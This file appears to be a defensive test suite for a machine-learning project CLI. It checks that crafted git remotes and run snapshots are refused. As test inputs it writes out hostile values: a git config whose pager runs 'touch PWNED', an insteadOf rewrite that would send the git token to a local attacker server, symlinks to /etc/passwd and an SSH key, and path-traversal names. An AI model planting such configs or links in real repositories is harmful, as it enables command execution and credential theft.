import {createServer} from 'node:http'
import {existsSync, promises as fs, readdirSync, statSync} from 'node:fs'
import path from 'node:path'
import * as assert from 'uvu/assert'
import {craftRun, type Entry, writeTree, writeTreeIn} from '../crafted.js'
import {cleanup, errorCode, folderState, git, ml, ok, type Result, shadowGit, shadowRefs, tempDir, timedSuite, write} from '../helpers.js'

/**
 * A remote's history and a run's snapshot are untrusted: crafted ones, built here with git's
 * plumbing, must never write into .ml/ or outside the folder, run or redirect anything, brick
 * the project or lose work. Each test runs the real CLI on real repositories.
 */
const test = timedSuite('hostile-remote')
test.after.each(cleanup)


/** A project with one run, and a tell-tale file beside it that nothing may touch. */
async function project(): Promise<{root: string; dir: string}> {
  const root = tempDir()
  await fs.writeFile(path.join(root, 'tell-tale.txt'), 'untouched\n')
  ok(await ml(root, ['project', 'init', 'p', '-q']))
  const dir = path.join(root, 'p')
  ok(await ml(dir, ['experiment', 'submit', '-q', 'train.py']))
  return {root, dir}
}

/** Everything of the project that a refused command must leave exactly as it was. */
async function everything(dir: string): Promise<{folder: Record<string, string>; ml: Record<string, string>; refs: string}> {
  const mlDir = await folderState(path.join(dir, '.ml'), ['history.git', 'runs-cache.ndjson', 'folder-stamp', 'lock'])
  return {folder: await folderState(dir, ['.ml']), ml: mlDir, refs: shadowRefs(dir)}
}

function refused(r: Result, code = 'UNSAFE_PATH'): void {
  assert.is(errorCode(r), code, r.stdout + r.stderr)
  assert.is(r.code, 1)
  assert.not.match(r.stderr, /^\s+at /m, 'no stack trace')
}

const restoreCases: Array<[string, (dir: string) => Entry[]]> = [
  ['.ml/history.git/config with a pager', () => [{name: '.ml', children: [{name: 'history.git', children: [{name: 'config', content: '[core]\n\tpager = touch PWNED\n'}]}]}]],
  ['.ml/project.json', () => [{name: '.ml', children: [{name: 'project.json', content: '{}'}]}]],
  ['.ml/restore-in-progress.json', () => [{name: '.ml', children: [{name: 'restore-in-progress.json', content: '{"targetTree":"x"}'}]}]],
  ['.ML (a case-folding file system writes it into .ml)', () => [{name: '.ML', children: [{name: 'project.json', content: '{}'}]}]],
  ['.ml. (trailing dot)', () => [{name: '.ml.', children: [{name: 'x', content: 'x'}]}]],
  ['.m\u200bl (an ignorable character)', () => [{name: '.m\u200bl', children: [{name: 'x', content: 'x'}]}]],
  ['a nested .ml', () => [{name: 'sub', children: [{name: '.ml', children: [{name: 'project.json', content: '{}'}]}]}]],
  ['outputs/', () => [{name: 'outputs', children: [{name: 'model.pkl', content: 'planted'}]}]],
  ['a 300-byte name', () => [{name: 'n'.repeat(300), content: 'x'}]],
  ['a path over 4,096 bytes', () => {
    let entry: Entry = {name: 'f', content: 'x'}
    for (let i = 0; i < 20; i++) entry = {name: 'd'.repeat(250), children: [entry]}
    return [entry]
  }],
  ['a file entry whose object is a tree', (dir) => [{name: 'fake.txt', mode: '100644', id: writeTree(dir, [{name: 'a', content: 'a'}])}]],
  ['a folder entry whose object is a blob', (dir) => [{name: 'fakedir', mode: '40000', id: shadowGit(dir, ['hash-object', '-w', '--stdin'], {}, 'not a tree')}]],
  ['a symlink entry whose object is a tree', (dir) => [{name: 'link', mode: '120000', id: writeTree(dir, [{name: 'a', content: 'a'}])}]],
  ['a symlinked .amlignore (would read a local file as rules)', () => [{name: '.amlignore', link: '/etc/passwd'}]],
  ['a symlinked .gitignore in a folder', () => [{name: 'src', children: [{name: '.gitignore', link: '../../../.ssh/id_rsa'}]}]],
]

for (const [name, entries] of restoreCases) {
  test(`restoring a snapshot with ${name} is refused before anything is written`, async () => {
    const {root, dir} = await project()
    const runId = craftRun(dir, entries(dir))
    const before = await everything(dir)
    refused(await ml(dir, ['project', 'restore', '--run-id', runId, '--yes']))
    assert.equal(await everything(dir), before, 'the folder, .ml/ and every ref are as they were')
    assert.not.ok(existsSync(path.join(dir, '.ml', 'restore-in-progress.json')), 'no journal was started')
    assert.is(await fs.readFile(path.join(root, 'tell-tale.txt'), 'utf8'), 'untouched\n')
    assert.not.ok(existsSync(path.join(dir, 'PWNED')))
    ok(await ml(dir, ['experiment', 'submit', '-q', 'train.py']))
    ok(await ml(dir, ['history', 'list']))
  })
}

/** An http server on 127.0.0.1 that only counts the requests it gets: where a hijacked clone would send its token. */
async function attacker(): Promise<{url: string; requests: string[]; close(): Promise<void>}> {
  const requests: string[] = []
  const server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`)
    res.writeHead(404).end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const {port} = server.address() as {port: number}
  return {url: `http://127.0.0.1:${port}/`, requests, close: () => new Promise((resolve) => server.close(() => resolve()))}
}

/** A real ml remote (a project pushed to a bare repo), and git plumbing run on that repo. */
async function mlRemote(): Promise<{root: string; remote: string; bare: (args: string[], input?: string | Buffer) => string}> {
  const root = tempDir()
  const remote = path.join(root, 'remote.git')
  git(root, ['init', '-q', '--bare', remote])
  ok(await ml(root, ['project', 'init', 'origin-project', '-q', '-r', remote]))
  return {root, remote, bare: (args, input) => git(root, args, {GIT_DIR: remote}, input)}
}

/** An ml remote with a user branch `master`, its default, holding the project's files and `extra` (made in the remote). */
async function remoteWithUserFiles(extra: Entry[] | ((bare: (args: string[], input?: string | Buffer) => string) => Entry[])): Promise<{root: string; remote: string}> {
  const {root, remote, bare} = await mlRemote()
  const tree = writeTreeIn(bare, [{name: 'train.py', content: 'print(1)\n'}, ...(typeof extra === 'function' ? extra(bare) : extra)])
  bare(['update-ref', 'refs/heads/master', bare(['commit-tree', tree, '-m', 'planted'])])
  bare(['symbolic-ref', 'HEAD', 'refs/heads/master'])
  return {root, remote}
}

test('a clone whose user branch plants .ml/history.git/config (insteadOf to steal the token, a pager) is refused, and nothing is sent elsewhere', async () => {
  const evil = await attacker()
  try {
    const {root, remote} = await remoteWithUserFiles([{name: '.ml', children: [{name: 'history.git', children: [
      {name: 'config', content: `[url "${evil.url}"]\n\tinsteadOf = file://\n\tinsteadOf = /\n[core]\n\tpager = touch PWNED\n`},
    ]}]}])
    const target = path.join(root, 'clone')
    refused(await ml(root, ['project', 'clone', `file://${remote}`, target], {ML_GIT_TOKEN: 'secret-token'}))
    assert.equal(evil.requests, [], 'no request reached the attacker')
    assert.not.ok(existsSync(target), 'the half-made clone was taken back')
  } finally {
    await evil.close()
  }
})

for (const [name, entry] of [
  ['.ML/project.json', {name: '.ML', children: [{name: 'project.json', content: '{}'}]}],
  ['a symlinked .gitignore', {name: '.gitignore', link: '/etc/passwd'}],
  ['a 300-byte name', {name: 'x'.repeat(300), content: 'x'}],
] as Array<[string, Entry]>) {
  test(`a clone whose user branch has ${name} is refused and leaves nothing`, async () => {
    const {root, remote} = await remoteWithUserFiles([entry])
    refused(await ml(root, ['project', 'clone', remote, 'clone']))
    assert.not.ok(existsSync(path.join(root, 'clone')))
  })
}

// A clone reads a file's object only as it writes it (libgit2 fails on one of another kind); the
// objects are looked at one by one only then, to refuse the entry by name.
for (const [name, entryName, entries, code] of [
  ['a file entry whose object is a tree', 'fake.txt', (bare) => [{name: 'fake.txt', mode: '100644', id: writeTreeIn(bare, [{name: 'a', content: 'a'}])}], 'UNSAFE_PATH'],
  ['a symlink entry whose object is a tree', 'link', (bare) => [{name: 'link', mode: '120000', id: writeTreeIn(bare, [{name: 'a', content: 'a'}])}], 'UNSAFE_PATH'],
  ['a file entry whose object is a commit', 'z.txt', (bare) => [{name: 'z.txt', mode: '100644', id: bare(['rev-parse', 'refs/ml/project'])}], 'UNSAFE_PATH'],
  ['a folder entry whose object is a blob', 'fakedir', (bare) => [{name: 'fakedir', mode: '40000', id: bare(['hash-object', '-w', '--stdin'], 'not a tree')}], 'UNSAFE_PATH'],
  ['a file whose object is missing', 'gone.txt', () => [{name: 'gone.txt', mode: '100644', id: '0123456789abcdef0123456789abcdef01234567'}], 'PROJECT_CORRUPT'],
] as Array<[string, string, (bare: (args: string[], input?: string | Buffer) => string) => Entry[], string]>) {
  test(`a clone whose user branch has ${name} is refused (${code}) and leaves nothing`, async () => {
    const {root, remote} = await remoteWithUserFiles(entries)
    const r = await ml(root, ['project', 'clone', `file://${remote}`, 'clone'])
    refused(r, code)
    assert.ok(r.stderr.includes(`"${entryName}"`), `the entry is named: ${r.stderr}`)
    assert.not.ok(existsSync(path.join(root, 'clone')))
    assert.equal(readdirSync(root).filter((n) => n.startsWith('.ml-clone-')), [], 'no hidden half-made clone is left')
  })
}

test('a clone of a local remote copies its objects, links none of its files, and never carries its alternates', async () => {
  const {root, remote} = await mlRemote()
  ok(await ml(path.join(root, 'origin-project'), ['experiment', 'submit', '-q', 'train.py']))
  ok(await ml(root, ['project', 'clone', remote, 'plain']))
  for (const gitdir of [path.join(root, 'plain', '.git'), path.join(root, 'plain', '.ml', 'history.git')]) {
    const packs = readdirSync(path.join(gitdir, 'objects', 'pack'))
    assert.ok(packs.some((n) => n.endsWith('.pack')), `${gitdir} holds the remote's packs`)
    for (const name of packs) assert.is(statSync(path.join(gitdir, 'objects', 'pack', name)).nlink, 1, `${name} is a copy, not a link to the remote's file`)
    git(root, ['fsck', '--no-dangling', '--no-progress'], {GIT_DIR: gitdir})
  }
  assert.match(ok(await ml(path.join(root, 'plain'), ['history', 'list'])).stdout, /Completed/)

  // A remote that borrows its objects from another repository: the clone holds them itself.
  const lender = path.join(root, 'lender.git')
  git(root, ['clone', '-q', '--bare', remote, lender])
  const borrower = path.join(root, 'borrower.git')
  git(root, ['clone', '-q', '--bare', '--shared', lender, borrower])
  git(root, ['fetch', '-q', remote, '+refs/ml/*:refs/ml/*'], {GIT_DIR: borrower})
  assert.ok(existsSync(path.join(borrower, 'objects', 'info', 'alternates')))
  ok(await ml(root, ['project', 'clone', `file://${borrower}`, 'borrowed']))
  await fs.rm(lender, {recursive: true})
  for (const gitdir of [path.join(root, 'borrowed', '.git'), path.join(root, 'borrowed', '.ml', 'history.git')]) {
    assert.not.ok(existsSync(path.join(gitdir, 'objects', 'info', 'alternates')), `${gitdir} names no other repository`)
    git(root, ['fsck', '--no-dangling', '--no-progress'], {GIT_DIR: gitdir})
  }
  assert.match(ok(await ml(path.join(root, 'borrowed'), ['history', 'list'])).stdout, /Completed/)
})

test('a clone whose history tip plants .ml/ (and no user branch to check out) is refused and leaves nothing', async () => {
  const {root, remote, bare} = await mlRemote()
  const branch = bare(['for-each-ref', '--format=%(refname)', 'refs/heads/AzureMLHistory/'])
  const tree = writeTreeIn(bare, [{name: 'train.py', content: 'print(1)\n'}, {name: '.ml', children: [{name: 'project.json', content: '{"schema":1}'}]}])
  bare(['update-ref', branch, bare(['commit-tree', tree, '-p', branch, '-m', 'planted'])])
  bare(['update-ref', '-d', 'refs/heads/master'])
  refused(await ml(root, ['project', 'clone', remote, 'clone']))
  assert.not.ok(existsSync(path.join(root, 'clone')))
})

test('a clone whose project record is not a project file is PROJECT_CORRUPT and leaves nothing', async () => {
  const {root, remote, bare} = await mlRemote()
  const record = {schema: 1, id: 'x', name: '../../evil', historyBranch: '../../../tmp/evil', createdAt: ''}
  const tree = writeTreeIn(bare, [{name: 'project.json', content: JSON.stringify(record)}])
  bare(['update-ref', 'refs/ml/project', bare(['commit-tree', tree, '-m', 'planted'])])
  refused(await ml(root, ['project', 'clone', remote, 'clone']), 'PROJECT_CORRUPT')
  assert.not.ok(existsSync(path.join(root, 'clone')))
})

test('!.ml/ and !outputs/ in a .gitignore bring neither into a snapshot', async () => {
  const {dir} = await project()
  await fs.appendFile(path.join(dir, '.gitignore'), '!.ml/\n!/outputs/\n!.ml/**\n')
  await write(dir, {'outputs/model.bin': 'weights', 'sub/.gitignore': '!.ml/\n', 'sub/.ml/x': 'x'})
  ok(await ml(dir, ['project', 'snapshot', '-q']))
  const files = shadowGit(dir, ['ls-tree', '-r', '--name-only', 'HEAD']).split('\n')
  assert.ok(files.includes('sub/.gitignore'), files.join(' '))
  assert.equal(files.filter((f) => /(^|\/)\.ml\/|^outputs\//.test(f)), [], 'no .ml/ or outputs/ file in the snapshot')
})

test('secrets beyond the first list, in any case, stay out of the snapshot and are named', async () => {
  const {dir} = await project()
  const secrets = ['.git-credentials', '.npmrc', '.pypirc', '.docker/config.json', 'deploy/.kube/config', 'prod.tfvars', '.envrc', 'service-account-prod.json', '.ENV', 'Server.PEM', 'keys/ID_RSA']
  await write(dir, Object.fromEntries(secrets.map((s) => [s, 'secret'])))
  await write(dir, {'docker-notes.txt': 'not a secret'})
  const r = ok(await ml(dir, ['experiment', 'submit', 'train.py']))
  const files = shadowGit(dir, ['ls-tree', '-r', '--name-only', 'HEAD']).split('\n')
  for (const secret of secrets) {
    assert.not.ok(files.includes(secret), `${secret} is not in the snapshot`)
    assert.match(r.stderr, secret.split('/')[0], `${secret} is named`)
  }
  assert.ok(files.includes('docker-notes.txt'))
})

test('a project file that is null, an array or incomplete is PROJECT_CORRUPT, not a TypeError', async () => {
  const {dir} = await project()
  const file = path.join(dir, '.ml', 'project.json')
  const good = await fs.readFile(file, 'utf8')
  for (const bad of ['null', '[]', '{"schema":1}', '{', JSON.stringify({...JSON.parse(good), historyBranch: '../../x'})]) {
    await fs.writeFile(file, bad)
    refused(await ml(dir, ['project', 'snapshot']), 'PROJECT_CORRUPT')
  }
  await fs.writeFile(file, good)
  ok(await ml(dir, ['project', 'snapshot']))
})

test('a name that is not UTF-8 and a folder 101 levels deep get their own codes; .amlignore lets the project go on', async () => {
  const {dir} = await project()
  const bad = Buffer.concat([Buffer.from(`${dir}/bad`), Buffer.from([0xff, 0xfe]), Buffer.from('.txt')])
  await fs.writeFile(bad, 'x')
  refused(await ml(dir, ['project', 'snapshot']), 'UNSUPPORTED_NAME')
  await fs.appendFile(path.join(dir, '.amlignore'), 'bad*\n')
  ok(await ml(dir, ['project', 'snapshot']))
  const deep = path.join(dir, 'deep', ...Array.from({length: 101}, () => 'd'))
  await fs.mkdir(deep, {recursive: true})
  await fs.writeFile(path.join(deep, 'f.txt'), 'x')
  refused(await ml(dir, ['project', 'snapshot']), 'SNAPSHOT_TOO_DEEP')
  await fs.appendFile(path.join(dir, '.amlignore'), 'deep/\n')
  ok(await ml(dir, ['experiment', 'submit', '-q', 'train.py']))
})

test('init never reuses a .ml folder it did not make', async () => {
  const dir = tempDir()
  await write(dir, {'.ml/history.git/config': '[core]\n\tpager = touch PWNED\n'})
  refused(await ml(dir, ['project', 'init', '.']), 'PROJECT_EXISTS')
  assert.is(await fs.readFile(path.join(dir, '.ml', 'history.git', 'config'), 'utf8'), '[core]\n\tpager = touch PWNED\n', 'left as it was')
})

/** A project with a run to restore 8 files away from, and the same folder as it was before the restore. */
async function interruptible(): Promise<{dir: string; runId: string; original: Record<string, string>}> {
  const {dir} = await project()
  await write(dir, Object.fromEntries(Array.from({length: 8}, (_, i) => [`data/f${i}.txt`, `old ${i}\n`])))
  ok(await ml(dir, ['experiment', 'submit', '-q', 'train.py']))
  const runId = JSON.parse(ok(await ml(dir, ['history', 'list', '-o', 'json'])).stdout)[0].runId as string
  await write(dir, Object.fromEntries(Array.from({length: 8}, (_, i) => [`data/f${i}.txt`, `new ${i}\n`])))
  await write(dir, {'extra.txt': 'extra\n'})
  return {dir, runId, original: await folderState(dir, ['.ml'])}
}

/** Every file content reachable from any ref of the shadow repo: where lost work would be missing from. */
function everyBlobText(dir: string): string {
  return shadowGit(dir, ['log', '--all', '-p', '--format=', '--no-renames'])
}

for (const point of ['restore-journal', 'restore-checkout-3', 'restore-checked-out']) {
  test(`a restore killed at ${point} is finished by the next command, and edits made after the crash are kept`, async () => {
    const {dir, runId, original} = await interruptible()
    const killed = await ml(dir, ['project', 'restore', '--run-id', runId, '--yes', '-q'], {ML_TEST_CRASH_AT: point})
    assert.is(killed.code, null, `killed at ${point}: ${killed.stderr}`)
    assert.ok(existsSync(path.join(dir, '.ml', 'restore-in-progress.json')), 'the journal is left behind')
    await write(dir, {'data/f5.txt': 'edited after the crash\n', 'brand-new.txt': 'created after the crash\n'})

    const next = ok(await ml(dir, ['project', 'snapshot']))
    assert.match(next.stderr, /Finished restoring run/)
    assert.not.ok(existsSync(path.join(dir, '.ml', 'restore-in-progress.json')))
    const restored = await folderState(dir, ['.ml'])
    assert.is(restored['data/f5.txt'], '-:old 5\n', 'the folder is fully restored')
    assert.is(restored['extra.txt'], undefined)
    const kept = everyBlobText(dir)
    assert.match(kept, 'edited after the crash', 'the edit is in a ref')
    assert.match(kept, 'created after the crash', 'the new file is in a ref')
    shadowGit(dir, ['fsck', '--strict', '--no-dangling'])

    // The undo stack still leads back to the folder as it was before the restore.
    for (let i = 0; i < 3; i++) {
      if ((await folderState(dir, ['.ml']))['extra.txt']) break
      ok(await ml(dir, ['project', 'restore', '--undo', '--yes', '-q']))
    }
    const back = await folderState(dir, ['.ml'])
    for (const [file, content] of Object.entries(original)) if (file !== 'data/f5.txt') assert.is(back[file], content, file)
  })
}

test('a restore killed before anything changed, with no edits since, takes no extra backup', async () => {
  const {dir, runId} = await interruptible()
  const killed = await ml(dir, ['project', 'restore', '--run-id', runId, '--yes', '-q'], {ML_TEST_CRASH_AT: 'restore-journal'})
  assert.is(killed.code, null)
  const backups = async () => JSON.parse(ok(await ml(dir, ['history', 'list', '--backups', '-o', 'json'])).stdout).length
  const before = await backups()
  ok(await ml(dir, ['project', 'snapshot']))
  assert.is(await backups(), before, 'the restore\'s own backup already holds the folder')
})

test('an unreadable restore journal is dropped with a notice and never blocks later commands', async () => {
  const {dir} = await project()
  await fs.writeFile(path.join(dir, '.ml', 'restore-in-progress.json'), '{"targetTree": "../../etc"}')
  const r = ok(await ml(dir, ['project', 'snapshot']))
  assert.match(r.stderr, /could not be read/)
  assert.not.ok(existsSync(path.join(dir, '.ml', 'restore-in-progress.json')))
  ok(await ml(dir, ['experiment', 'submit', '-q', 'train.py']))
})

test.run()
